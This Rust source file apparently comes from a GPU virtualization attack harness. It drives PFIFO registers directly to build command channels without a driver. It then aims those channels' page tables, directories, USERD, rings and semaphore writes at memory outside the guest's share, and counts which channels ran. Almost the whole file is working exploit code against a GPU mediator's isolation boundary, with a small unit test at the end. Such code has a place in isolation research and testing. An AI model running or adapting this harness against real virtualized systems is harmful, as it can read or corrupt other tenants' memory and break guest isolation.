//! A channel that is created without a driver, first with our own pages and then with pages and pointers outside our
//! share.
//!
//! The channel only releases semaphores. The host engine executes releases itself, so no other engine needs to be set
//! up.

use anyhow::Result;

use super::attack::{BRAND, Ground};
use super::hostile::BEYOND_GUEST_RAM;
use super::layout::{Aperture, CHANNELS, PAGE, RAMFC, instance_pointer, own, reg};
use gdev::mapping::Width;

/// Index of the channel's address space.
const SPACE: usize = 2;
const RING_VA: u64 = 0x1_0000;
const PUSH_VA: u64 = 0x1_1000;
const DATA_VA: u64 = 0x10_0000;
const OUTSIDE_VA: u64 = 0x20_0000;

/// Log2 of the number of ring entries.
const RING_ORDER: u32 = 9;
/// Number of memory polls within which the card must finish.
const MAX_POLLS: u32 = 20_000;
/// Value that a successful release writes.
const RELEASED: u32 = 0x5e3a_0001;
/// Size of a USERD, and of the host engine's state in an instance block (RAMFC), in bytes.
const STATE_BYTES: u64 = 512;
/// Offset of the semaphore in the data page.
const SEMAPHORE: u64 = 0x100;

/// Results of the attacks.
pub struct Attacked {
    /// Set if a channel with only our own pages worked.
    pub armed: bool,
    /// Number of started channels.
    pub count: u64,
    /// Number of channels that ran with tables or a ring outside the share, which means that the card read memory
    /// outside the share.
    pub reached: u64,
    /// Number of channels that ran with a page or USERD outside the share. This alone is harmless: the card may have
    /// dropped the write, or the mediator may have used its own USERD. Only the other guest can detect damage.
    pub passed: u64,
}

/// Defect that makes a channel use memory outside the share.
#[derive(Debug, Clone, Copy)]
enum Flaw {
    /// The channel has no defect.
    None,
    /// The page to which the channel writes is outside the share.
    Page(u64, Aperture),
    /// The channel's page table is outside the share.
    Table(u64),
    /// The channel's page directory is outside the share.
    Directory(u64),
    /// The channel's USERD is outside the share.
    Userd(u64),
    /// The page of the channel's ring is outside the share.
    Ring(u64),
}

/// Starts a channel without defects, and then up to `most` channels with defects: first each type of defect and each
/// address once, and then the other combinations.
pub fn attack(ground: &mut Ground<'_>, probes: u64, most: usize) -> Result<Attacked> {
    start_pfifo(ground);
    let mut attacked = Attacked { armed: false, count: 0, reached: 0, passed: 0 };
    let mut id = 0;
    let mut next = || {
        id = (id + 1) % CHANNELS;
        id
    };
    attacked.armed = one(ground, next(), Flaw::None);
    attacked.count += 1;
    for flaw in flaws(&ground.outside(PAGE, probes)).into_iter().take(most) {
        ground.found.pokes += 1;
        attacked.count += 1;
        if !one(ground, next(), flaw) {
            continue;
        }
        match flaw {
            Flaw::None | Flaw::Page(..) | Flaw::Userd(_) => attacked.passed += 1,
            Flaw::Table(_) | Flaw::Directory(_) | Flaw::Ring(_) => {
                println!("a channel ran: {flaw:x?}");
                attacked.reached += 1;
            }
        }
    }
    Ok(attacked)
}

/// Returns all combinations of defect and address. The first ones cover as many defects and addresses as possible.
fn flaws(addresses: &[u64]) -> Vec<Flaw> {
    let kinds: [fn(u64) -> Flaw; 7] = [
        |address| Flaw::Page(address, Aperture::Vram),
        |address| Flaw::Page(address, Aperture::Peer),
        |address| Flaw::Page(address | BEYOND_GUEST_RAM, Aperture::Coherent),
        Flaw::Table,
        Flaw::Directory,
        Flaw::Userd,
        Flaw::Ring,
    ];
    let round = |shift: usize| {
        addresses.iter().enumerate().map(move |(at, address)| kinds[(at + shift) % kinds.len()](*address))
    };
    (0..kinds.len()).flat_map(round).collect()
}

/// Initializes PFIFO as a driver does.
fn start_pfifo(ground: &Ground<'_>) {
    let card = ground.card;
    card.write(reg::PMC_ENABLE, card.read(reg::PMC_ENABLE) | 1 << 8);
    card.write(reg::PBDMA_ENABLE, 0x7);
    card.write(reg::PFIFO_PBDMAS, 0x7);
    for (engine, pbdma) in [0u32, 1, 1, 1, 2, 1].into_iter().enumerate() {
        card.write(reg::PFIFO_ROUTE + 4 * engine as u32, !(1 << pbdma));
    }
    for pbdma in 0..3 {
        card.write(reg::PBDMA_INTR + pbdma * 0x2000, u32::MAX);
        card.write(reg::PBDMA_INTR_ENABLE + pbdma * 0x2000, 0xffff_feff);
    }
    card.write(reg::PFIFO_ENABLE, card.read(reg::PFIFO_ENABLE) | 1);
    card.write(reg::USERD_BASE, 0x1000_0000);
    card.write(reg::PFIFO_INTR, u32::MAX);
}

/// Builds a channel, rings its doorbell, and waits. Returns true if the last release, which writes to our own page, was
/// executed.
fn one(ground: &mut Ground<'_>, id: u32, flaw: Flaw) -> bool {
    let (card, base) = (ground.card, ground.base);
    let semaphore = base + own::DATA + SEMAPHORE;
    card.vram_write(semaphore, 0);
    build(ground, flaw);

    // Access USERD through BAR1, at the channel's address and with our own tables.
    let userd_va = u64::from(id) * PAGE;
    ground.set_page(0, userd_va, base + own::USERD, Aperture::Vram);
    card.write(reg::BAR1_INSTANCE, instance_pointer(base + own::BAR1_INSTANCE, 0));
    ground.flush(base + own::DIRECTORIES[0]);
    ground.flush(base + own::DIRECTORIES[SPACE]);
    card.write(reg::CHANNEL + 8 * id, 0x4000_0000 | instance_pointer(base + own::INSTANCE, 0));
    card.write(reg::CHANNEL_STATE + 8 * id, 0x001f_0001);
    card.vram_write(base + own::RUNLIST, id);
    card.vram_write(base + own::RUNLIST + 4, 4);
    card.write(reg::RUNLIST, ((base + own::RUNLIST) >> 12) as u32);
    card.write(reg::RUNLIST_SUBMIT, 0x01f0_0001);
    ground.apertures[0].store(userd_va as usize + 0x8c, Width::Dword, 1);

    let wanted = if matches!(flaw, Flaw::None) { RELEASED } else { BRAND };
    let patience = if matches!(flaw, Flaw::None) { MAX_POLLS } else { 32 };
    let mut arrived = false;
    for _ in 0..patience {
        arrived = card.vram_read(semaphore) == wanted;
        if arrived {
            break;
        }
    }
    card.write(reg::CHANNEL_STATE + 8 * id, 0);
    card.write(reg::RUNLIST_SUBMIT, 0x01f0_0000);
    card.write(reg::PREEMPT, id);
    card.write(reg::CHANNEL + 8 * id, 0);
    card.write(reg::PFIFO_INTR, u32::MAX);
    arrived
}

/// Writes the instance block, tables, ring and push buffer.
fn build(ground: &Ground<'_>, flaw: Flaw) {
    let (card, base) = (ground.card, ground.base);
    let table = if let Flaw::Table(address) = flaw { address } else { base + own::TABLES[SPACE] };
    ground.set_directory(SPACE, 0, None, Some((table, Aperture::Vram)));
    let ring = if let Flaw::Ring(address) = flaw { address } else { base + own::RING };
    ground.set_page(SPACE, RING_VA, ring, Aperture::Vram);
    ground.set_page(SPACE, PUSH_VA, base + own::PUSH, Aperture::Vram);
    ground.set_page(SPACE, DATA_VA, base + own::DATA, Aperture::Vram);
    if let Flaw::Page(address, aperture) = flaw {
        ground.set_page(SPACE, OUTSIDE_VA, address, aperture);
    }

    // If the defect is a page, first release a semaphore in that page. Always release one in our own page last, as
    // proof that the channel has executed the push buffer.
    let mut words = Vec::new();
    let mut release = |va: u64, payload: u32| {
        let data = [(va >> 32) as u32, va as u32, payload, 0x0110_0002];
        words.push(0x2000_0000 | 4 << 16 | 0x10 >> 2);
        words.extend_from_slice(&data);
    };
    match flaw {
        Flaw::None => release(DATA_VA + SEMAPHORE, RELEASED),
        Flaw::Page(..) => {
            release(OUTSIDE_VA + 0xff0, BRAND);
            release(DATA_VA + SEMAPHORE, BRAND);
        }
        Flaw::Table(_) | Flaw::Directory(_) | Flaw::Userd(_) | Flaw::Ring(_) => {
            release(DATA_VA + SEMAPHORE, BRAND);
        }
    }
    for (at, word) in words.iter().enumerate() {
        card.vram_write(base + own::PUSH + at as u64 * 4, *word);
    }
    card.vram_write(base + own::RING, PUSH_VA as u32);
    card.vram_write(base + own::RING + 4, (words.len() as u32) << 10);

    let userd = if let Flaw::Userd(address) = flaw { address } else { base + own::USERD };
    let directory = if let Flaw::Directory(address) = flaw { address } else { base + own::DIRECTORIES[SPACE] };
    // Clear the previous channel's state: all of USERD, and the host engine's state in the instance block.
    card.vram_zero(base + own::USERD, STATE_BYTES);
    card.vram_zero(base + own::INSTANCE, STATE_BYTES);
    ground.set_instance(own::INSTANCE, directory, 0);
    let words = [
        (0x08, userd as u32),
        (0x0c, (userd >> 32) as u32),
        (0x48, RING_VA as u32),
        (0x4c, RING_ORDER << 16),
        (0x54, 0x0000_0002),
    ];
    for (offset, word) in words.into_iter().chain(RAMFC) {
        card.vram_write(base + own::INSTANCE + offset, word);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeSet;

    #[test]
    fn few_channels_have_every_flaw_and_every_address() {
        let addresses: Vec<u64> = (1..=8).map(|address| address << 12).collect();
        let all = flaws(&addresses);
        assert_eq!(all.len(), 7 * 8);
        let kind = |flaw: &Flaw| format!("{flaw:?}").chars().take_while(|c| *c != '(').collect::<String>();
        let address = |flaw: &Flaw| match *flaw {
            Flaw::None => None,
            Flaw::Page(at, _) | Flaw::Table(at) | Flaw::Directory(at) | Flaw::Userd(at) | Flaw::Ring(at) => Some(at),
        };
        let first: BTreeSet<String> = all.iter().take(8).map(kind).collect();
        assert_eq!(first.len(), 5, "pages are three of the seven: {first:?}");
        let addressed: BTreeSet<u64> = all.iter().take(8).filter_map(address).collect();
        assert_eq!(addressed.len(), 8, "one after the other");
        let distinct: BTreeSet<String> = all.iter().map(|flaw| format!("{flaw:?}")).collect();
        assert_eq!(distinct.len(), all.len());
    }
}
